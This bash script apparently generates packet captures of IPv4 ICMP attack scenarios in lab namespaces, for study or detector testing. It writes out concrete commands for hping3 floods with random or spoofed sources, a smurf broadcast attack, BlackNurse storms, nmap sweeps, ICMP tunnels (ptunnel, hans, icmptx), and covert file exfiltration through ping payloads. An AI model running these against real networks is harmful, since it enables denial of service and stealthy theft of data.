# shellcheck shell=bash
# Scenes of attacks over IPv4: floods, sweeps, tunnels; sourced by record.sh.
# What is forged is in scenes-forged.sh.

# After finish: how many ICMP messages the capture has by these fields (of the
# message itself, not of what it quotes), without the marker, as tshark counts.
finish_counted() { # [-n] [TARGET] ; -n leaves the addresses out
  local f fields=(-e ip.src -e ip.dst -e icmp.type -e icmp.code) filter
  [[ ${1-} != -n ]] || { fields=("${fields[@]:4}"); shift; }
  finish "$@"
  filter="icmp && !(icmp.ident == $MARKER_ID)"
  for f in "$OUT/$SCENE".pcap*; do
    echo "\$ tshark -n -r ${f##*/} -Y '$filter' -T fields -E occurrence=f ${fields[*]} | sort | uniq -c"
    tshark -n -r "$f" -Y "$filter" -T fields -E occurrence=f "${fields[@]}" 2>/dev/null |
      LC_ALL=C sort | uniq -c
  done >>"$OUT/$SCENE.txt"
}

# A program that runs while others do; ended prints it where it stands.
beside() { # NS READY COMMAND...
  BESIDE="\$ ${*:3}"
  background "$1" "$2" env LC_ALL=C stdbuf -oL "${@:3}"
  BESIDE_PID=${PIDS[-1]} BESIDE_LOG=$TMP/log.$((${#PIDS[@]} - 1))
}
ended() {
  wait "$BESIDE_PID" || true
  { echo "${BESIDE//$TMP\//}"; cat "$BESIDE_LOG"; } >>"$TMP/$SCENE.txt"
}

hosts() { # NS DEV K HOST... : further addresses of a machine
  local h; for h in "${@:4}"; do in_ns "$1" ip addr add "10.0.$3.$h/24" dev "$2"; done
}

# ping -f sends the next with each reply, so the RTT of 4 ms sets its rate.
flood4() {
  chain 4 1 2:2:0
  capture a e1 -c 9000 -B 16384
  shown ping -n -q -f -c 1000 "$B4"
  finish_counted
}
flood4-interval() {
  chain 4 1
  capture a e1
  shown ping -n -q -i 0.005 -c 700 "$B4"
  finish_counted
}

# Captured at the victim. r1 knows no way for its replies.
flood4-sources() {
  chain 4 1
  capture b e2 -c 9000 -B 16384
  shown hping3 -n -q --icmp --rand-source -i u1800 -c 2000 "$B4"
  finish_counted -n
}

sweep4-fping() {
  chain 4 1
  hosts b e2 2 5 9 20
  capture a e1
  shown fping -g 10.0.2.0/27
  finish_counted
}
nmap_sweep() { # OPTION
  chain 4 1
  hosts b e2 2 5 9 20 40
  capture a e1 -B 16384
  shown nmap -n -sn "$1" 10.0.2.0/26
  finish_counted
}
sweep4-echo() { nmap_sweep -PE; }
sweep4-timestamp() { nmap_sweep -PP; }
sweep4-mask() { nmap_sweep -PM; }

# One a second.
sweep4-slow() {
  chain 4 1
  hosts b e2 2 5 9
  capture a e1
  shown fping -g -i 1000 -r 0 10.0.2.0/27
  finish_counted
}

nmap4-os() {
  chain 4 1
  background b Listening nc -n -v -l -k 0.0.0.0 80
  capture a e1 -B 16384
  shown nmap -n -O -p 80,81 "$B4"
  finish_counted
}
nmap4-udp() {
  chain 4 1
  capture a e1 -B 16384
  shown nmap -n -sU -p 40000-40029 "$B4"
  finish_counted
}

# h6 asks everybody in the name of a; it does not answer itself.
smurf4() {
  local h
  party 4 a h2 h3 h4 h5 h6
  in_ns h6 sysctl -qw net.ipv4.icmp_echo_ignore_broadcasts=1
  for h in 2 3 4 5 6; do warm_up 10.0.1.$h; done
  capture a e1
  shown_on h6 hping3 -n --icmp --spoof 10.0.1.1 -i u300000 -c 12 10.0.1.255
  finish_counted 10.0.1.2
}

# 64 hops of the way are between r2 and r3; loop4-inside looks at one of the two.
loop_ping() { # NS DEV COUNT
  chain 4 3
  route 4 r1 99 2.2
  route 4 r2 99 3.2
  route 4 r3 99 3.1
  capture "$1" "$2" -B 16384
  shown ping -n -i 0.2 -c "$3" 10.0.99.1
  finish_counted
}
loop4-ping() { loop_ping a e1 20; }
loop4-inside() { loop_ping r2 e3 5; }

storm() { # HPING3-OPTION...
  chain 4 1
  capture a e1 -c 9000 -B 16384
  shown hping3 -n -q "$@" "$B4"
  sed -i "/^status=0 port=/d" "$TMP/$SCENE.txt"
  finish_counted
}
unreachable4-storm() { storm --udp -p 9 -i u3000 -c 1600; }   # without its line for each answer
blacknurse4() { storm --icmp -C 3 -K 3 -i u3500 -c 1500; }

# One file goes through a tunnel and is compared at its end.
cargo() { # BYTES
  head -c "$1" /dev/urandom >"$TMP/cargo"
  echo "\$ sha256sum cargo" >>"$TMP/$SCENE.txt"
  (cd "$TMP" && sha256sum cargo) >>"$TMP/$SCENE.txt"
}
arrived() {
  { echo "\$ sha256sum arrived"; cd "$TMP" && sha256sum arrived && wc -c arrived; } >>"$TMP/$SCENE.txt"
}
fetch() { # ADDRESS PORT : a takes the cargo
  echo "\$ nc -d $1 $2 >arrived" >>"$TMP/$SCENE.txt"
  in_ns a timeout 60 nc -d "$1" "$2" >"$TMP/arrived" || true
  (arrived)
}

# b's kernel answers the echo requests too.
tunnel4-ptunnel() {
  chain 4 1
  cargo 20000
  background b listening sh -c "echo listening; exec nc -l -N 127.0.0.1 8080 <$TMP/cargo"
  background b Forwarding stdbuf -oL ptunnel -v 1
  capture a e1
  beside a Relaying ptunnel -p "$B4" -lp 8000 -da 127.0.0.1 -dp 8080
  fetch 127.0.0.1 8000
  sleep 2
  kill "$BESIDE_PID"; ended
  finish_counted
}
# A dialogue: a line every 0.2 s, and an answer to each.
tunnel4-ptunnel-lines() {
  local n
  chain 4 1
  mkfifo "$TMP/answers"
  background b listening sh -c "echo listening
    nc -l 127.0.0.1 8080 <$TMP/answers | sed -u 's/^/answer to /' >$TMP/answers"
  background b Forwarding stdbuf -oL ptunnel -v 1
  capture a e1
  beside a Relaying ptunnel -p "$B4" -lp 8000 -da 127.0.0.1 -dp 8080
  echo "\$ nc 127.0.0.1 8000" >>"$TMP/$SCENE.txt"
  for ((n = 1; n <= 30; n++)); do echo "line $n"; sleep 0.2; done |
    in_ns a timeout 20 nc -w 2 127.0.0.1 8000 >>"$TMP/$SCENE.txt" || true
  sleep 2
  kill "$BESIDE_PID"; ended
  finish_counted
}

# The same as at first with its successor, and the other way: a sends.
tunnel4-ptunnel-ng() {
  chain 4 1
  in_ns b sysctl -qw net.ipv4.icmp_echo_ignore_all=1
  cargo 20000
  background b listening sh -c "echo listening; exec nc -l 127.0.0.1 8080 >$TMP/arrived"
  background b Forwarding stdbuf -oL ptunnel-ng
  capture a e1
  beside a Relaying ptunnel-ng "-p$B4" -l8000 -r127.0.0.1 -R8080
  echo "\$ nc -N 127.0.0.1 8000 <cargo" >>"$TMP/$SCENE.txt"
  in_ns a timeout 20 nc -N -w 8 127.0.0.1 8000 <"$TMP/cargo" || true
  sleep 2
  (arrived)
  kill "$BESIDE_PID"; ended
  finish_counted 10.0.1.2
}

# Tunnels of IP: TUN devices at both ends. b's kernel is silent, as their manuals ask.
tunnel4-hans() {
  chain 4 1
  in_ns b sysctl -qw net.ipv4.icmp_echo_ignore_all=1
  cargo 20000
  background b opened hans -f -v -s 10.9.0.0 -p secret
  background b listening sh -c "echo listening; exec nc -l -N 10.9.0.1 8080 <$TMP/cargo"
  capture a e1
  beside a established hans -f -v -c "$B4" -p secret
  sleep 1
  fetch 10.9.0.1 8080
  kill "$BESIDE_PID"; ended
  finish_counted 10.0.1.2
}

# ICMP in IP in ICMP: b, which answers no pings itself, pings a.
tunnel4-hans-ping() {
  chain 4 1
  in_ns b sysctl -qw net.ipv4.icmp_echo_ignore_all=1
  background b opened hans -f -v -s 10.9.0.0 -p secret
  capture a e1
  beside a established hans -f -v -c "$B4" -p secret
  sleep 1
  shown ip addr show dev tun0
  shown_on b ping -n -i 0.5 -c 20 10.9.0.100
  kill "$BESIDE_PID"; ended
  finish_counted 10.0.1.2
}

# IP as in hans, by another program.
tunnel4-icmptx() {
  local n
  chain 4 1
  in_ns b sysctl -qw net.ipv4.icmp_echo_ignore_all=1
  cargo 20000
  background b ready sh -c "echo ready; exec icmptx -s $B4"
  capture a e1
  beside a ready sh -c "echo ready; exec icmptx -c $B4"
  sleep 1
  for n in a b; do
    in_ns $n ip addr add 10.9.0.$([[ $n = a ]] && echo 2 || echo 1)/24 dev tun0
    in_ns $n ip link set tun0 mtu 1400 up
  done
  background b listening sh -c "echo listening; exec nc -l -N 10.9.0.1 8080 <$TMP/cargo"
  fetch 10.9.0.1 8080
  sleep 1
  kill "$BESIDE_PID"; ended
  finish_counted 10.0.1.2
}

# A file leaves in the data of requests that nobody answers.
exfil4() {
  chain 4 1
  in_ns b sysctl -qw net.ipv4.icmp_echo_ignore_all=1
  cargo 15000
  capture a e1
  cd "$TMP"; shown hping3 -n --icmp -d 500 --file cargo -i u100000 -c 30 "$B4"; cd "$OLDPWD"
  finish_counted 10.0.1.2
}
# 16 bytes at a time, with what every Linux has.
exfil4-pattern() {
  local line
  chain 4 1
  cargo 640
  capture a e1
  for line in $(xxd -p -c 16 "$TMP/cargo"); do shown ping -n -q -c 1 -p "$line" "$B4"; done
  finish_counted
}
